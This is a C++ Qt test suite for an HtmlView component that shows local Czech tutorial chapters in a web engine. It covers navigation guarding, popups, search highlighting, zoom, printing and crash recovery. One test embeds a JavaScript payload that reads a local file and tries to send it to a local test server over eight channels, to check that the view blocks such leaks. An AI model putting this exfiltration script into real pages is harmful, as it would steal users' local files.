#include "Cp1250.h"
#include "FindDialog.h"
#include "HtmlView.h"
#include "SettingsStore.h"
#include "TestFiles.h"

#include <QApplication>
#include <QCheckBox>
#include <QPrinter>
#include <QSignalSpy>
#include <QTcpServer>
#include <QTcpSocket>
#include <QTemporaryDir>
#include <QTest>
#include <QTimer>
#include <QWebEngineFindTextResult>
#include <QWebEnginePage>
#include <QWebEngineSettings>
#include <QWebEngineView>

#include <algorithm>
#include <csignal>
#include <memory>

using namespace tavio;
using namespace Qt::Literals::StringLiterals;

namespace {

const QString kSizeKey = QStringLiteral("\\Software\\Viewer\\Scripts\\3");
const QString kSizeValue = QStringLiteral("IEFontSize");
const QString kSpanSelector
    = QStringLiteral("span[style=\"color:black; background-color: lime; font-weight: bolder;\"]");
constexpr int kLoadTimeout = 30000;

// Receives the guard's questions, so that tests can wait for them.
class GuardProbe final : public QObject
{
    Q_OBJECT
public:
    // Addresses outside the local disk are refused, as the program does with the web.
    HtmlView::NavigationGuard guard()
    {
        return [this](const QUrl& target) {
            emit asked(target);
            return target.isLocalFile();
        };
    }
signals:
    void asked(const QUrl& target);
};

// A signal to wait on for operations that report through a callback.
class Notifier final : public QObject
{
    Q_OBJECT
signals:
    void fired(bool result);
};

} // namespace

class TestHtmlView final : public QObject
{
    Q_OBJECT
private slots:
    void initTestCase();
    void init();
    void cleanup();

    void guardDecidesNavigation_data();
    void guardDecidesNavigation();
    void newWindowGoesToGuard_data();
    void newWindowGoesToGuard();
    void completionSignalsOncePerLoad_data();
    void completionSignalsOncePerLoad();
    void appendHtmlAddsFragmentOnce();
    void highlight_data();
    void highlight();
    void highlightScrollsFirstMatchToTop();
    void textSizeFromSetting_data();
    void textSizeFromSetting();
    void zoomToStepAtOnce();
    void findOnPage_data();
    void findOnPage();
    void printToPdf();
    void remoteResourcesAreNotFetched();
    void rendererCrashReloadsAtMostThreeTimes();
    void focusedViewScrollsWithKeys();

private:
    QString writePage(const QString& name, const QString& body, const QString& head = {});
    bool load(const QString& path);
    QVariant js(const QString& script);

    std::unique_ptr<QTemporaryDir> m_dir;
    std::unique_ptr<SettingsStore> m_store;
    std::unique_ptr<HtmlView> m_view;
    GuardProbe m_probe;
};

// Chapters are Windows-1250 files that say so.
QString TestHtmlView::writePage(const QString& name, const QString& body, const QString& head)
{
    const QString html = QStringLiteral("<html><head><meta charset=windows-1250><title>Kapitola</title>") + head
        + QStringLiteral("</head><body>") + body + QStringLiteral("</body></html>");
    const QString path = m_dir->filePath(name);
    testfiles::write(path, cp1250::fromUnicode(html));
    return path;
}

bool TestHtmlView::load(const QString& path)
{
    QSignalSpy done(m_view.get(), &HtmlView::documentComplete);
    m_view->navigate(path);
    return done.wait(kLoadTimeout);
}

// Runs a script in the page and waits for its result.
QVariant TestHtmlView::js(const QString& script)
{
    auto result = std::make_shared<QVariant>();
    auto loop = std::make_shared<QEventLoop>();
    std::weak_ptr<QEventLoop> weakLoop = loop;
    m_view->engineView()->page()->runJavaScript(script, [result, weakLoop](const QVariant& r) {
        *result = r;
        if (auto l = weakLoop.lock())
            l->quit();
    });
    QTimer::singleShot(kLoadTimeout, loop.get(), &QEventLoop::quit);
    loop->exec();
    return *result;
}

void TestHtmlView::initTestCase()
{
    m_dir = std::make_unique<QTemporaryDir>();
    QVERIFY(m_dir->isValid());
}

void TestHtmlView::init()
{
    m_store = std::make_unique<SettingsStore>(m_dir->filePath(QStringLiteral("hive.ini")));
    m_store->deleteKey(kSizeKey);
    m_view = std::make_unique<HtmlView>(m_store.get(), kSizeKey, kSizeValue);
    m_view->setNavigationGuard(m_probe.guard());
    m_view->resize(800, 600);
    m_view->show();
}

void TestHtmlView::cleanup()
{
    m_view.reset();
    m_store.reset();
}

void TestHtmlView::guardDecidesNavigation_data()
{
    QTest::addColumn<QString>("href");
    QTest::addColumn<bool>("loads");
    QTest::newRow("chapter in the folder") << QStringLiteral("b.htm") << true;
    QTest::newRow("chapter at an anchor") << QStringLiteral("b.htm#ukol") << true;
    QTest::newRow("web address") << QStringLiteral("http://www.kodovna.example/clanky/") << false;
    QTest::newRow("mail address") << QStringLiteral("mailto:autor@kodovna.example") << false;
    QTest::newRow("file to download") << QStringLiteral("priklady.exe") << false;
}

// The link is clicked with the mouse: the engine hands addresses of other programs
// (mailto:) to the guard only on a click of the user's.
void TestHtmlView::guardDecidesNavigation()
{
    QFETCH(QString, href);
    QFETCH(bool, loads);
    const QString b = writePage(QStringLiteral("b.htm"), QStringLiteral("<p>Druhá</p>"));
    testfiles::write(m_dir->filePath(QStringLiteral("priklady.exe")), QByteArray("MZ\x90\x00\x03\x00", 6));
    const QString a = writePage(QStringLiteral("a.htm"),
        QStringLiteral("<a style=\"display:block; width:300px; height:200px\" href=\"%1\">odkaz</a>").arg(href));
    const QUrl target = QUrl::fromLocalFile(m_dir->path() + QLatin1Char('/')).resolved(QUrl(href));

    QSignalSpy asked(&m_probe, &GuardProbe::asked);
    QVERIFY(load(a));
    QCOMPARE(asked.count(), 1);
    QCOMPARE(asked.at(0).at(0).toUrl(), QUrl::fromLocalFile(a));

    // The hovered link's address is the status text, and nothing once the mouse leaves it.
    QWidget* surface = m_view->engineView()->focusProxy();
    QSignalSpy status(m_view.get(), &HtmlView::statusTextChanged);
    QTest::mouseMove(surface, QPoint(50, 50));
    QVERIFY(status.wait(kLoadTimeout));
    QCOMPARE(status.last().at(0).toString(), target.toString());
    QTest::mouseMove(surface, QPoint(50, 400));
    QVERIFY(status.wait(kLoadTimeout));
    QCOMPARE(status.last().at(0).toString(), QString());

    QSignalSpy completed(m_view.get(), &HtmlView::documentComplete);
    QSignalSpy engineFinished(m_view->engineView()->page(), &QWebEnginePage::loadFinished);
    QTest::mouseClick(surface, Qt::LeftButton, {}, QPoint(50, 50));
    if (asked.count() < 2)
        QVERIFY(asked.wait(kLoadTimeout));
    QCOMPARE(asked.at(1).at(0).toUrl(), target);
    if (loads) {
        QVERIFY(completed.wait(kLoadTimeout));
        // The document's address, without the place in it.
        QCOMPARE(m_view->locationName(), QStringLiteral("b.htm"));
        QCOMPARE(m_view->locationUrl(), QUrl::fromLocalFile(b).toString(QUrl::FullyEncoded));
        return;
    }
    // A link out of the folder starts no load at all. The engine reports a file it would
    // only download as a load that ended; the view reports no completed document, as the
    // chapter stays shown.
    if (target.isLocalFile())
        QVERIFY(engineFinished.count() || engineFinished.wait(kLoadTimeout));
    QCOMPARE(completed.count(), 0);
    QCOMPARE(m_view->locationName(), QStringLiteral("a.htm"));
    QVERIFY(load(b));
    QCOMPARE(completed.count(), 1);
}

void TestHtmlView::newWindowGoesToGuard_data()
{
    QTest::addColumn<QString>("href");
    QTest::addColumn<bool>("byScript");
    QTest::addColumn<bool>("loads");
    const QString web = QStringLiteral("http://www.knihy.example/titul/");
    QTest::newRow("target=_blank, web") << web << false << false;
    // The page picks this address itself, though during a click: it goes nowhere.
    QTest::newRow("window.open, web") << web << true << false;
    QTest::newRow("target=_blank, chapter") << QStringLiteral("b.htm") << false << true;
}

// No window is ever opened. A click on a link that asks for one hands its address to
// the guard, and a target the guard lets through opens in the view itself, asking only
// once; a window the page opens itself, with or without a click, never reaches the guard.
void TestHtmlView::newWindowGoesToGuard()
{
    QFETCH(QString, href);
    QFETCH(bool, byScript);
    QFETCH(bool, loads);
    writePage(QStringLiteral("b.htm"), QStringLiteral("<p>Druhá</p>"));
    const QString style = QStringLiteral("style=\"display:block; width:300px; height:200px\"");
    const QString link = byScript
        ? QStringLiteral("<a %1 href=\"#\" onclick=\"window.open('%2'); return false\">kniha</a>").arg(style, href)
        : QStringLiteral("<a %1 target=_blank href=\"%2\">kniha</a>").arg(style, href);
    const QString popup = QStringLiteral(
        "<script>window.addEventListener('load', () => window.open('http://reklama.example/'));</script>");
    QSignalSpy asked(&m_probe, &GuardProbe::asked);
    QVERIFY(load(writePage(QStringLiteral("a.htm"), link, popup)));
    const auto shownWindows = [] {
        const QWidgetList all = QApplication::topLevelWidgets();
        return std::count_if(all.begin(), all.end(), [](const QWidget* w) { return w->isVisible(); });
    };
    const auto windows = shownWindows();

    QSignalSpy completed(m_view.get(), &HtmlView::documentComplete);
    QTest::mouseClick(m_view->engineView()->focusProxy(), Qt::LeftButton, {}, QPoint(50, 50));
    if (byScript) {
        // The click has been handled once a script run after it has.
        QCOMPARE(js(QStringLiteral("1")).toInt(), 1);
        QCOMPARE(asked.count(), 1);
        QCOMPARE(shownWindows(), windows);
        return;
    }
    if (asked.count() < 2)
        QVERIFY(asked.wait(kLoadTimeout));
    QCOMPARE(asked.at(1).at(0).toUrl(), QUrl::fromLocalFile(m_dir->path() + QLatin1Char('/')).resolved(QUrl(href)));
    if (loads) {
        QVERIFY(completed.wait(kLoadTimeout));
        QCOMPARE(m_view->locationName(), QStringLiteral("b.htm"));
    } else {
        QCOMPARE(m_view->locationName(), QStringLiteral("a.htm"));
    }
    QCOMPARE(asked.count(), 2);
    QCOMPARE(shownWindows(), windows);
}

void TestHtmlView::completionSignalsOncePerLoad_data()
{
    QTest::addColumn<bool>("exists");
    QTest::newRow("chapter") << true;
    QTest::newRow("missing file") << false;
}

void TestHtmlView::completionSignalsOncePerLoad()
{
    QFETCH(bool, exists);
    const QString path = exists ? writePage(QStringLiteral("0005-01.htm"), QStringLiteral("<p>Text</p>"))
                                : m_dir->filePath(QStringLiteral("0099-01.htm"));
    QStringList events;
    connect(m_view.get(), &HtmlView::downloadComplete, this, [&] { events << QStringLiteral("download"); });
    connect(m_view.get(), &HtmlView::documentComplete, this, [&] { events << QStringLiteral("document"); });

    QVERIFY(!m_view->hasDocument());
    for (int i = 1; i <= 2; ++i) {
        QVERIFY(load(path));
        QCOMPARE(events.size(), 2 * i);
        QCOMPARE(events.mid(2 * (i - 1)), (QStringList { QStringLiteral("download"), QStringLiteral("document") }));
    }
    QVERIFY(m_view->hasDocument());
    QCOMPARE(m_view->locationUrl(), QUrl::fromLocalFile(path).toString(QUrl::FullyEncoded));
    QCOMPARE(m_view->locationName(), QFileInfo(path).fileName());
}

void TestHtmlView::appendHtmlAddsFragmentOnce()
{
    QVERIFY(load(writePage(QStringLiteral("a.htm"), QStringLiteral("<p>Kapitola</p>"))));
    // Quotes, a backslash, a script end tag and a line separator must all survive.
    const QString text = QStringLiteral("Nebaví vás \"učit\" se \\ z monitoru?</script>\u2028'");
    m_view->appendHtml(QStringLiteral("<p id=footer><font size=\"1\">%1</font></br>").arg(text.toHtmlEscaped()));
    m_view->setBodyBorderStyle(QStringLiteral("none"));
    const QVariantList expected { 1, QStringLiteral("footer"), text, QStringLiteral("none") };
    QCOMPARE(js(QStringLiteral("[document.querySelectorAll('#footer').length, document.body.lastElementChild.id, "
                               "document.getElementById('footer').textContent, document.body.style.borderStyle]"))
                 .toList(),
        expected);
}

void TestHtmlView::highlight_data()
{
    QTest::addColumn<QString>("body");
    QTest::addColumn<QString>("phrase");
    QTest::addColumn<bool>("wholeWords");
    QTest::addColumn<bool>("matchCase");
    QTest::addColumn<int>("spans");
    QTest::addColumn<QString>("highlighted"); // the text of all spans, joined by '|'

    const QString kost = QStringLiteral("<p>kost kostka Kost</p>");
    QTest::newRow("any part, any case") << kost << QStringLiteral("kost") << false << false << 3
                                        << QStringLiteral("kost|kost|Kost");
    QTest::newRow("whole words") << kost << QStringLiteral("kost") << true << false << 2 << QStringLiteral("kost|Kost");
    QTest::newRow("match case") << kost << QStringLiteral("kost") << false << true << 2 << QStringLiteral("kost|kost");
    QTest::newRow("whole words, match case")
        << kost << QStringLiteral("kost") << true << true << 1 << QStringLiteral("kost");
    QTest::newRow("Czech capitals") << QStringLiteral("<p>Příliš žluťoučký kůň</p>") << QStringLiteral("ŽLUŤOUČKÝ")
                                    << false << false << 1 << QStringLiteral("žluťoučký");
    QTest::newRow("Czech capitals, match case") << QStringLiteral("<p>Příliš žluťoučký kůň</p>")
                                                << QStringLiteral("ŽLUŤOUČKÝ") << false << true << 0 << QString();
    // A word boundary that only knows ASCII would take "ň" for a break.
    QTest::newRow("Czech whole word") << QStringLiteral("<p>koňský kůň kůňa</p>") << QStringLiteral("kůň") << true
                                      << false << 1 << QStringLiteral("kůň");
    QTest::newRow("across elements") << QStringLiteral("<p><b>Pro</b>měnná x</p>") << QStringLiteral("proměnná")
                                     << false << false << 2 << QStringLiteral("Pro|měnná");
    QTest::newRow("paragraphs and cells end words")
        << QStringLiteral("<p>první kost</p><p>kost</p><table><tr><td>kost</td><td>kost<br>kost</td></tr></table>")
        << QStringLiteral("kost") << true << false << 5 << QStringLiteral("kost|kost|kost|kost|kost");
    QTest::newRow("line break in the source") << QStringLiteral("<p>Ahoj\n  svete</p>") << QStringLiteral("Ahoj svete")
                                              << true << false << 1 << QStringLiteral("Ahoj\n  svete");
    QTest::newRow("scripts, styles and text areas are not text")
        << QStringLiteral("<script>var kost = 1;</script><style>.kost{}</style><textarea>kost</textarea><p>kost</p>")
        << QStringLiteral("kost") << false << false << 1 << QStringLiteral("kost");
    QTest::newRow("pattern characters are plain") << QStringLiteral("<p>x+y xxy (a)</p>") << QStringLiteral("x+y")
                                                  << false << false << 1 << QStringLiteral("x+y");
    QTest::newRow("matches do not overlap")
        << QStringLiteral("<p>aaaaa</p>") << QStringLiteral("aa") << false << false << 2 << QStringLiteral("aa|aa");
    QTest::newRow("empty phrase") << kost << QString() << false << false << 0 << QString();
}

void TestHtmlView::highlight()
{
    QFETCH(QString, body);
    QFETCH(QString, phrase);
    QFETCH(bool, wholeWords);
    QFETCH(bool, matchCase);
    QFETCH(int, spans);
    QFETCH(QString, highlighted);
    QVERIFY(load(writePage(QStringLiteral("a.htm"), body)));

    Notifier notifier;
    QSignalSpy finished(&notifier, &Notifier::fired);
    m_view->searchAndHighlightText(phrase, wholeWords, matchCase, [&](bool found) { emit notifier.fired(found); });
    if (finished.isEmpty())
        QVERIFY(finished.wait(kLoadTimeout));
    QCOMPARE(finished.at(0).at(0).toBool(), spans > 0);
    QCOMPARE(js(QStringLiteral("document.querySelectorAll('%1').length").arg(kSpanSelector)).toInt(), spans);
    QCOMPARE(js(QStringLiteral("Array.from(document.querySelectorAll('%1'), s => s.textContent).join('|')")
                     .arg(kSpanSelector))
                 .toString(),
        highlighted);
}

void TestHtmlView::highlightScrollsFirstMatchToTop()
{
    const QString filler = QStringLiteral("<p>výplň</p>").repeated(300);
    QVERIFY(load(writePage(QStringLiteral("a.htm"),
        filler + QStringLiteral("<p>první kost</p>") + filler + QStringLiteral("<p>druhá kost</p>") + filler)));
    Notifier notifier;
    QSignalSpy finished(&notifier, &Notifier::fired);
    m_view->searchAndHighlightText(
        QStringLiteral("kost"), true, false, [&](bool found) { emit notifier.fired(found); });
    QVERIFY(finished.wait(kLoadTimeout));
    QVERIFY(finished.at(0).at(0).toBool());
    QVERIFY(js(QStringLiteral("window.scrollY")).toInt() > 0);
    QCOMPARE(
        js(QStringLiteral("Math.round(document.querySelector('%1').getBoundingClientRect().top)").arg(kSpanSelector))
            .toInt(),
        0);
}

void TestHtmlView::textSizeFromSetting_data()
{
    QTest::addColumn<QByteArray>("stored"); // empty: no value
    QTest::addColumn<int>("step");
    QTest::addColumn<QByteArray>("afterLoad");
    const QByteArray medium("\x02\x00\x00\x00", 4);
    const QByteArray largest("\x04\x00\x00\x00", 4);
    QTest::newRow("missing value is created") << QByteArray() << 2 << medium;
    QTest::newRow("largest") << largest << 4 << largest;
    QTest::newRow("out of range") << QByteArray("\x09\x00\x00\x00", 4) << 4 << QByteArray("\x09\x00\x00\x00", 4);
}

void TestHtmlView::textSizeFromSetting()
{
    QFETCH(QByteArray, stored);
    QFETCH(int, step);
    QFETCH(QByteArray, afterLoad);
    const QString a = writePage(QStringLiteral("a.htm"), QStringLiteral("<p>Text</p>"));
    // The page shown before keeps another size, so that the new one must take the setting.
    m_store->writeBinary(kSizeKey, kSizeValue, QByteArray("\x01\x00\x00\x00", 4));
    QVERIFY(load(a));
    QCOMPARE(m_view->zoomStep(), 1);

    m_store->deleteValue(kSizeKey, kSizeValue);
    if (!stored.isEmpty())
        m_store->writeBinary(kSizeKey, kSizeValue, stored);
    QVERIFY(load(writePage(QStringLiteral("b.htm"), QStringLiteral("<p>Text</p>"))));
    QCOMPARE(*m_store->readBinary(kSizeKey, kSizeValue), afterLoad);
    QCOMPARE(m_view->zoomStep(), step);
    QCOMPARE(m_view->engineView()->zoomFactor(), HtmlView::zoomFactorForStep(step));
    // The document itself is rendered at that size.
    QCOMPARE(js(QStringLiteral("window.devicePixelRatio")).toDouble(), HtmlView::zoomFactorForStep(step));
}

void TestHtmlView::zoomToStepAtOnce()
{
    QVERIFY(load(writePage(QStringLiteral("a.htm"), QStringLiteral("<p>Text</p>"))));
    m_view->zoomToStep(4);
    QCOMPARE(m_view->zoomStep(), 4);
    QCOMPARE(m_view->engineView()->zoomFactor(), 1.5);
    m_view->zoomToStep(0);
    QCOMPARE(m_view->zoomStep(), 0);
    QCOMPARE(m_view->engineView()->zoomFactor(), 0.75);
    // The setting is the view's own and is not touched by the zoom command.
    QCOMPARE(*m_store->readBinary(kSizeKey, kSizeValue), QByteArray("\x02\x00\x00\x00", 4));
}

void TestHtmlView::findOnPage_data()
{
    QTest::addColumn<bool>("wholeWords");
    QTest::addColumn<bool>("matchCase");
    QTest::addColumn<bool>("upward");
    // Each Find Next selects the next match: its text and where it starts.
    QTest::addColumn<QStringList>("selections");
    QTest::newRow("any case") << false << false << false
                              << QStringList{u"Řeka@0"_s, u"řeka@5"_s, u"ŘEKA@10"_s, u"řeka@15"_s, u"Řeka@0"_s};
    QTest::newRow("whole words") << true << false << false
                                 << QStringList{u"Řeka@0"_s, u"řeka@5"_s, u"ŘEKA@10"_s, u"Řeka@0"_s};
    QTest::newRow("whole words, match case") << true << true << false << QStringList{u"řeka@5"_s, u"řeka@5"_s};
    QTest::newRow("whole words, upward") << true << false << true
                                         << QStringList{u"ŘEKA@10"_s, u"řeka@5"_s, u"Řeka@0"_s, u"ŘEKA@10"_s};
}

void TestHtmlView::findOnPage()
{
    QFETCH(bool, wholeWords);
    QFETCH(bool, matchCase);
    QFETCH(bool, upward);
    QFETCH(QStringList, selections);
    QVERIFY(load(writePage(QStringLiteral("a.htm"), QStringLiteral("<p>Řeka řeka ŘEKA řekami</p>"))));
    m_view->showFindDialog();
    FindDialog* dialog = m_view->findDialog();
    QVERIFY(dialog->isVisible());
    // The dialog starts over the first line of the page.
    dialog->move(m_view->mapToGlobal(QPoint(0, 0)));
    dialog->setFindText(QStringLiteral("řeka"));
    for (QCheckBox* box : dialog->findChildren<QCheckBox*>()) {
        QVERIFY(box->isVisible());
        if (box->text().contains(QStringLiteral("velká")))
            box->setChecked(matchCase);
        if (box->text().contains(QStringLiteral("slova")))
            box->setChecked(wholeWords);
    }
    QCOMPARE(dialog->wholeWords(), wholeWords);
    QCOMPARE(dialog->matchCase(), matchCase);
    dialog->setUpward(upward);

    for (const QString& expected : selections) {
        QSignalSpy shown(dialog, &FindDialog::matchShown);
        emit dialog->findNext();
        QVERIFY(shown.wait(kLoadTimeout));
        QVERIFY(shown.at(0).at(0).toBool());
        const QVariantList r = js(QStringLiteral(
            "(function () { var s = window.getSelection(); var b = s.getRangeAt(0).getBoundingClientRect();"
            " return [s.toString() + '@' + s.anchorOffset, b.left, b.top, b.width, b.height]; })()")).toList();
        QCOMPARE(r.value(0).toString(), expected);
        // The dialog does not cover the match it shows.
        const QRect match(m_view->engineView()->mapToGlobal(QPoint(r[1].toInt(), r[2].toInt())),
                          QSize(r[3].toInt(), r[4].toInt()));
        QVERIFY2(!dialog->frameGeometry().intersects(match), qPrintable(expected));
        QVERIFY(dialog->isVisible());
    }

    // A phrase that is not on the page changes nothing.
    dialog->setFindText(QStringLiteral("potok"));
    QSignalSpy shown(dialog, &FindDialog::matchShown);
    emit dialog->findNext();
    QVERIFY(shown.wait(kLoadTimeout));
    QVERIFY(!shown.at(0).at(0).toBool());
}

void TestHtmlView::printToPdf()
{
    QVERIFY(load(writePage(QStringLiteral("a.htm"), QStringLiteral("<h2>Lekce 5</h2><p>Příkaz if</p>"))));
    const QString pdf = m_dir->filePath(QStringLiteral("out.pdf"));
    QPrinter printer(QPrinter::HighResolution);
    printer.setOutputFormat(QPrinter::PdfFormat);
    printer.setOutputFileName(pdf);
    Notifier notifier;
    QSignalSpy finished(&notifier, &Notifier::fired);
    m_view->printTo(&printer, [&](bool ok) { emit notifier.fired(ok); });
    if (finished.isEmpty())
        QVERIFY(finished.wait(kLoadTimeout));
    QVERIFY(finished.at(0).at(0).toBool());
    const QByteArray bytes = testfiles::read(pdf);
    QVERIFY(bytes.size() > 100);
    QVERIFY(bytes.startsWith("%PDF"));
}

// A chapter's pictures and style sheets on the web are not fetched: a server that never
// answers would otherwise hold the load open. Nor can a chapter's script that reads a
// local file send it anywhere, by any means a page has: the server gets no request.
// The same page with the view's network block lifted and remote access allowed proves
// that the server would have seen them.
void TestHtmlView::remoteResourcesAreNotFetched()
{
    QTcpServer server;
    QVERIFY(server.listen(QHostAddress::LocalHost));
    QStringList requests;
    connect(&server, &QTcpServer::newConnection, &server, [&] {
        while (QTcpSocket* s = server.nextPendingConnection()) {
            connect(s, &QTcpSocket::readyRead, s, [s, &requests] {
                if (s->canReadLine())
                    requests.append(QString::fromLatin1(s->readLine()).trimmed());
                s->readAll();
            });
        }
    });
    const QString base = QStringLiteral("http://127.0.0.1:%1/").arg(server.serverPort());
    testfiles::write(m_dir->filePath(QStringLiteral("tajne.txt")), QByteArray("heslo"));
    const auto page = [&](const QString& name, int run) {
        const QString leak = QStringLiteral(
            "<script>(function () {"
            "var x = new XMLHttpRequest(); x.open('GET', 'tajne.txt', false); x.send(); var d = x.responseText;"
            "var q = '%1x?run=%2&d=' + encodeURIComponent(d) + '&k=';"
            "new Image().src = q + 'img';"
            "var s = document.createElement('script'); s.src = q + 'script'; document.head.appendChild(s);"
            "fetch(q + 'fetch', {mode: 'no-cors'}).catch(function () {});"
            "try { var r = new XMLHttpRequest(); r.open('GET', q + 'xhr'); r.send(); } catch (e) {}"
            "try { navigator.sendBeacon(q + 'beacon', d); } catch (e) {}"
            "try { new WebSocket(q.replace('http:', 'ws:') + 'ws'); } catch (e) {}"
            "var f = document.createElement('iframe'); f.src = q + 'iframe'; document.documentElement.appendChild(f);"
            "location.href = q + 'location';"
            "document.title = 'odeslano:' + d;"
            "})();</script>").arg(base).arg(run);
        // First in the head: the style sheet from the silent server would hold it back.
        return writePage(name, QStringLiteral("<img src=\"%1logo.gif\"><iframe src=\"%1ramec.htm\"></iframe>").arg(base),
                         leak + QStringLiteral("<link rel=stylesheet href=\"%1tisk.css\">").arg(base));
    };
    QVERIFY(load(page(QStringLiteral("a.htm"), 1)));
    QTRY_COMPARE_WITH_TIMEOUT(js(QStringLiteral("document.title")).toString(), QStringLiteral("odeslano:heslo"),
                              kLoadTimeout);

    m_view->engineView()->page()->setUrlRequestInterceptor(nullptr);
    m_view->engineView()->page()->settings()->setAttribute(QWebEngineSettings::LocalContentCanAccessRemoteUrls, true);
    m_view->navigate(page(QStringLiteral("b.htm"), 2)); // the silent server holds the load open
    QTRY_VERIFY_WITH_TIMEOUT(requests.filter(QStringLiteral("run=2&d=heslo")).size() > 1, kLoadTimeout);
    QCOMPARE(requests.filter(QStringLiteral("run=1")), QStringList());
}

void TestHtmlView::rendererCrashReloadsAtMostThreeTimes()
{
    QVERIFY(load(writePage(QStringLiteral("a.htm"), QStringLiteral("<p>Text</p>"))));
    QWebEnginePage* page = m_view->engineView()->page();
    const auto crash = [&] {
        QSignalSpy ended(page, &QWebEnginePage::renderProcessTerminated);
        ::kill(pid_t(page->renderProcessPid()), SIGKILL);
        return ended.wait(kLoadTimeout);
    };
    QSignalSpy completed(m_view.get(), &HtmlView::documentComplete);
    for (int i = 1; i <= 3; ++i) {
        QVERIFY(crash());
        QVERIFY(completed.wait(kLoadTimeout));
        QCOMPARE(m_view->locationName(), QStringLiteral("a.htm"));
    }
    QVERIFY(crash());
    QSignalSpy started(page, &QWebEnginePage::loadStarted);
    QVERIFY(!started.wait(2000));

    // Opening a chapter starts the count again.
    QVERIFY(load(m_dir->filePath(QStringLiteral("a.htm"))));
    QVERIFY(crash());
    QVERIFY(completed.wait(kLoadTimeout));
}

// After the view gets the focus, the page keys scroll the chapter without a click into it.
void TestHtmlView::focusedViewScrollsWithKeys()
{
    QVERIFY(load(writePage(QStringLiteral("a.htm"), QStringLiteral("<p>řádek</p>").repeated(500))));
    m_view->activateWindow();
    QVERIFY(QTest::qWaitForWindowActive(m_view.get()));
    m_view->focusView();
    QWidget* focused = QApplication::focusWidget();
    QVERIFY(focused);
    QVERIFY(m_view->isAncestorOf(focused));
    QSignalSpy scrolled(m_view->engineView()->page(), &QWebEnginePage::scrollPositionChanged);
    QTest::keyClick(focused, Qt::Key_PageDown);
    QVERIFY(scrolled.wait(kLoadTimeout));
    QVERIFY(js(QStringLiteral("window.scrollY")).toInt() > 0);
}

int main(int argc, char* argv[])
{
    QApplication::setAttribute(Qt::AA_ShareOpenGLContexts);
    QApplication app(argc, argv);
    TestHtmlView test;
    QTEST_SET_MAIN_SOURCE_PATH
    return QTest::qExec(&test, argc, argv);
}

#include "tst_htmlview.moc"
